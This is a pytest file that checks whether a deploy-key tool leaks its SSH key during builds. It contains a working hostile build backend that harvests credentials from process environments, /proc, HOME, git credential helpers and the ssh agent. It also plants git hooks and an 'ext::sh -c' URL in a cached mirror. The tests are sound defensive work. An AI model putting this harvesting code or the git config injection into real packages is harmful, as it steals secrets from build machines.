"""A hostile private dependency: its build code searches the machine for the key, in every mode.

The package's PEP 517 backend runs while the installer builds it, the one moment third-party code
runs in a build. It looks everywhere a key was before the fetch-first design, or could be: its own
environment, every process's cmdline and environ (ENV_DIR is named there), the env dir itself (and a
CNB build's platform dir: its env files and bindings),
/dev/shm, TMPDIR and HOME (key dirs, ssh configs), git's credential helpers, an ssh agent. All it
reads goes into one file, which the test searches for the key, and which must show that the search
really ran (it read the env dir, the process table, and git's settings).
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import (
    BIN,
    KIT,
    Build,
    GeneratedKey,
    files_with_key,
    flit_package,
    key_dirs,
    text_has_key,
)
from gitserver import GitServer

HOSTILE = "hostile @ git+ssh://git@github.com/acme/hostile.git@v1.0"

# Reads everything it can reach into $HOME/loot (the test's HOME is private to one build).
HOSTILE_BACKEND = r"""
import os, subprocess
from flit_core import buildapi as _flit

def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""

def _tree(root, depth=4):
    if not root or not os.path.isdir(root):
        return b""
    out = b""
    for base, dirs, files in os.walk(root):
        if base.count(os.sep) - root.count(os.sep) >= depth or "site-packages" in base:
            dirs[:] = []
        for name in files:
            path = os.path.join(base, name)
            if os.path.isfile(path) and not path.endswith("loot"):
                out += b"\n== " + path.encode() + b"\n" + _read(path, 65536)
    return out

def _loot():
    out = [b"== environ\n" + repr(dict(os.environ)).encode()]
    dirs = {os.environ.get("ENV_DIR"), os.environ.get("TMPDIR", "/tmp"), "/dev/shm",
            os.environ.get("HOME"), os.environ.get("CNB_PLATFORM_DIR")}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            cmdline = _read(f"/proc/{pid}/cmdline")
            out.append(b"== cmdline " + pid.encode() + b"\n" + cmdline)
            out.append(b"== environ " + pid.encode() + b"\n" + _read(f"/proc/{pid}/environ"))
            for word in cmdline.split(b"\0"):
                if word.startswith(b"/") and os.path.isdir(word):
                    dirs.add(word.decode(errors="replace"))
            for env in _read(f"/proc/{pid}/environ").split(b"\0"):
                if env.startswith((b"ENV_DIR=", b"CNB_PLATFORM_DIR=")):
                    dirs.add(env.split(b"=", 1)[1].decode(errors="replace"))
    for directory in sorted({os.path.realpath(d) for d in dirs if d}):
        # Not the root or pseudo-filesystems (/proc/kmsg blocks a reader); /dev/shm is walked.
        pseudo = directory.startswith(("/proc/", "/sys/")) or (
            directory.startswith("/dev/") and not directory.startswith("/dev/shm"))
        if directory not in ("/", "/usr", "/proc", "/sys", "/dev") and not pseudo:
            out.append(_tree(directory, depth=2 if directory.startswith("/tmp") else 4))
    ask = subprocess.run(["git", "credential", "fill"], input=b"protocol=https\nhost=github.com\n\n",
                         capture_output=True, env={**os.environ, "GIT_TERMINAL_PROMPT": "0"})
    out.append(b"== git credential fill\n" + ask.stdout + ask.stderr)
    listed = subprocess.run(["git", "config", "--list", "--show-origin"], capture_output=True)
    out.append(b"== git config\n" + listed.stdout)
    agent = os.environ.get("SSH_AUTH_SOCK")
    if agent:
        keys = subprocess.run(["ssh-add", "-L"], capture_output=True)
        out.append(b"== " + b"agent-keys\n" + keys.stdout)  # not literal: this file is read too
    with open(os.path.join(os.environ["HOME"], "loot"), "wb") as f:
        f.write(b"\n".join(out))

def build_wheel(*args, **kwargs):
    _loot()
    return _flit.build_wheel(*args, **kwargs)

get_requires_for_build_wheel = _flit.get_requires_for_build_wheel
prepare_metadata_for_build_wheel = _flit.prepare_metadata_for_build_wheel
"""


@pytest.fixture(scope="module")
def hostile_repo(git_server: GitServer) -> str:
    if not (git_server.root / "repos" / "acme" / "hostile.git").exists():
        git_server.add_repo(
            "acme/hostile",
            {
                **flit_package("hostile", "1.0", backend="hostile_backend"),
                "hostile_backend.py": HOSTILE_BACKEND,
            },
        )
    return "acme/hostile"


@pytest.fixture
def hostile_build(build: Build, utils_key: GeneratedKey, hostile_repo: str) -> Iterator[Build]:
    build.server.grant(utils_key.label, utils_key.public, [hostile_repo])
    build.set_key(utils_key.text)
    (build.app / "requirements.txt").write_text(HOSTILE + "\n")
    yield build
    (KIT / "export").unlink(missing_ok=True)


def heroku_env(build: Build, **extra: str) -> dict[str, str]:
    """A Heroku build: STACK set (ENV_DIR is then the build's own copy of the config vars)."""
    return build.environ(STACK="heroku-24", **extra)


def assert_found_nothing(build: Build, key: GeneratedKey, output: str, before: set[str]) -> None:
    loot = take_loot(build)
    # The search ran, and looked where the key used to be.
    assert b"== environ" in loot and b"== git config" in loot and b"== cmdline" in loot
    assert str(build.env_dir).encode() in loot  # it found the env dir, and read what is left
    assert not text_has_key(loot.decode("utf-8", "replace"), key.text)
    assert b"SSH_AUTH_SOCK" not in own_environ(loot)  # no ssh agent to ask
    assert files_with_key([build.app, build.cache, build.home], key.text) == []
    assert not text_has_key(output, key.text)
    assert key_dirs() - before == set()


def take_loot(build: Build) -> bytes:
    """What the backend gathered, moved out of HOME: it holds other private keys of this test
    machine (the test git server's host key), which the scan of HOME would rightly report."""
    loot = build.home / "loot"
    data = loot.read_bytes()
    loot.unlink()
    return data


def cnb_loot(home: Path, platform: Path | str) -> str:
    """What the backend gathered in a CNB build, in the pip buildpack's build (HOME: the build
    user's home), removed once read: it read its environment, every process's, the platform dir
    (env files, bindings) and git's settings."""
    loot = (home / "loot").read_text("utf-8", "replace")
    (home / "loot").unlink()
    assert "== environ" in loot and "== cmdline" in loot and "== git config" in loot
    assert f"== {platform}/env/PIP_NO_INDEX" in loot  # it walked the platform dir
    return loot


def own_environ(loot: bytes) -> bytes:
    """The backend's own environment, the first part of what it gathered."""
    return loot.split(b"== cmdline", 1)[0]


def python_buildpack_pip(build: Build, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """The next buildpack's pip (another process; its environment is the platform's)."""
    venv = build.root / "python"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    argv = [str(venv / "bin" / "pip"), "install", "--no-input", "-r", "requirements.txt"]
    return subprocess.run(argv, cwd=build.app, env=env, capture_output=True, text=True)


def test_compile_into_a_venv(hostile_build: Build, utils_key: GeneratedKey) -> None:
    build, before = hostile_build, key_dirs()
    result = build.compile(env=heroku_env(build, DEPLOYKEY_INSTALL="venv"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"removed DEPLOY_KEY from {build.env_dir}" in result.stdout
    assert_found_nothing(build, utils_key, result.stdout + result.stderr, before)


def test_handoff_to_the_python_buildpack(hostile_build: Build, utils_key: GeneratedKey) -> None:
    build, before = hostile_build, key_dirs()
    env = heroku_env(build, DEPLOYKEY_INSTALL="off")
    result = build.compile(env=env)
    assert result.returncode == 0, result.stdout + result.stderr
    exported = subprocess.run(
        ["bash", "-c", f". {KIT / 'export'} && env -0"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    handed = dict(item.split("=", 1) for item in exported.split("\0") if "=" in item)
    # heroku-buildpack-python v351 exports ENV_DIR to the installer's environment (bin/compile).
    pip = python_buildpack_pip(build, {**handed, "ENV_DIR": str(build.env_dir)})
    assert pip.returncode == 0, pip.stdout + pip.stderr
    assert_found_nothing(build, utils_key, result.stdout + pip.stdout + pip.stderr, before)


def test_app_hooks(hostile_build: Build, utils_key: GeneratedKey) -> None:
    build, before = hostile_build, key_dirs()
    written = subprocess.run(
        [str(BIN / "deploykey"), "hooks", str(build.app)], capture_output=True, text=True
    )
    assert written.returncode == 0, written.stderr
    env = heroku_env(
        build, ENV_DIR=str(build.env_dir), CACHE_DIR=str(build.cache), BUILD_DIR=str(build.app)
    )
    # sub_env (heroku-buildpack-python v351, vendor/buildpack-stdlib_v8.sh): config vars exported.
    hook_env = {**env, "DEPLOY_KEY": utils_key.text.rstrip("\n")}
    pre = subprocess.run(
        [str(build.app / "bin" / "pre_compile")],
        cwd=build.app,
        env=hook_env,
        capture_output=True,
        text=True,
    )
    assert pre.returncode == 0, pre.stdout + pre.stderr
    pip = python_buildpack_pip(build, env)  # inherits nothing from the hook
    assert pip.returncode == 0, pip.stdout + pip.stderr
    post = subprocess.run(
        [str(build.app / "bin" / "post_compile")],
        cwd=build.app,
        env={**env, "DEPLOY_KEY": ""},
        capture_output=True,
        text=True,
    )
    assert post.returncode == 0, post.stdout + post.stderr
    assert "pre_compile removed them before the install" in post.stdout
    output = pre.stdout + pre.stderr + pip.stdout + post.stdout + post.stderr
    assert_found_nothing(build, utils_key, output, before)


def test_ci_setup_in_its_own_step(hostile_build: Build, utils_key: GeneratedKey) -> None:
    """A CI job whose secret is given to the setup step only (GitHub Actions: `env:` of that step):
    the install step, a process that never had the key in its environment, finds nothing. (A
    secret exported to the whole job stays readable in /proc/<shell>/environ even after `unset`,
    whatever deploykey does: the README says to give it to the setup step only.)"""
    build, before = hostile_build, key_dirs()
    venv = build.root / "python"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    exports = build.root / "exports"
    setup = subprocess.run(
        [str(BIN / "deploykey"), "setup", "--shell", "--cache-dir", str(build.cache)],
        cwd=build.app,
        env={**build.environ(), "DEPLOY_KEY": utils_key.text},
        capture_output=True,
        text=True,
    )
    assert setup.returncode == 0, setup.stderr
    exports.write_text(setup.stdout)
    install = f". {exports} && {venv}/bin/pip install --no-input -r requirements.txt"
    job = subprocess.run(
        ["bash", "-c", install], cwd=build.app, env=build.environ(), capture_output=True, text=True
    )
    assert job.returncode == 0, job.stdout + job.stderr
    loot = take_loot(build)
    assert b"== environ" in loot and b"== git config" in loot
    assert b"SSH_AUTH_SOCK" not in own_environ(loot)
    assert not text_has_key(loot.decode("utf-8", "replace"), utils_key.text)
    assert files_with_key([build.app, build.cache, build.home], utils_key.text) == []
    assert not text_has_key(setup.stdout + setup.stderr + job.stdout, utils_key.text)
    assert key_dirs() - before == set()


def test_a_mirror_changed_by_build_code_is_never_trusted(
    build: Build, utils_key: GeneratedKey, git_server: GitServer
) -> None:
    """Build code can write the build cache: a hook, or settings that make git run a command,
    planted in a cached mirror would run in the next build's fetch, which has the key. deploykey
    runs no hook of a mirror, and discards one whose settings it did not write."""
    if not (git_server.root / "repos" / "acme" / "moving.git").exists():
        git_server.add_repo("acme/moving", flit_package("moving", "1.0"))
    git_server.grant(utils_key.label, utils_key.public, ["acme/moving"])
    build.set_key(utils_key.text)
    (build.app / "requirements.txt").write_text(
        "moving @ git+ssh://git@github.com/acme/moving.git@main\n"
    )
    first = build.compile()
    assert first.returncode == 0, first.stdout + first.stderr
    mirror = build.cache / "deploykey" / "mirrors" / "github.com" / "acme" / "moving.git"
    ran = build.root / "planted-ran"
    (mirror / "hooks").mkdir(exist_ok=True)  # deploykey's clone copies no template (sealedgit)
    for hook in ("reference-transaction", "post-receive", "pre-auto-gc"):
        (mirror / "hooks" / hook).write_text(f"#!/bin/sh\ntouch {ran}-{hook}\n")
        (mirror / "hooks" / hook).chmod(0o755)
    # A new commit: the next fetch updates refs, which is when git runs reference-transaction.
    release = time.time_ns()  # a tag no earlier run made
    git_server.add_commit("acme/moving", {"moving/extra.py": "x = 1\n"}, f"r{release}")
    second = build.compile()
    assert second.returncode == 0, second.stdout + second.stderr
    assert "main is " in second.stdout and "(fetched)" in second.stdout
    assert list(build.root.glob("planted-ran*")) == []
    # Settings that would run a command with the key dir in its environment: an ext:: URL.
    with (mirror / "config").open("a") as config:
        config.write(
            f'[url "ext::sh -c touch% {ran}-ext"]\n\tinsteadOf = ssh://git@github.com/\n'
            '[protocol "ext"]\n\tallow = always\n'
        )
    git_server.add_commit("acme/moving", {"moving/extra.py": "x = 2\n"}, f"r{release + 1}")
    third = build.compile()
    assert third.returncode == 0, third.stdout + third.stderr
    assert f"discarded the cached mirror {mirror}" in third.stderr
    assert list(build.root.glob("planted-ran*")) == []
    assert "ext::" not in (mirror / "config").read_text()
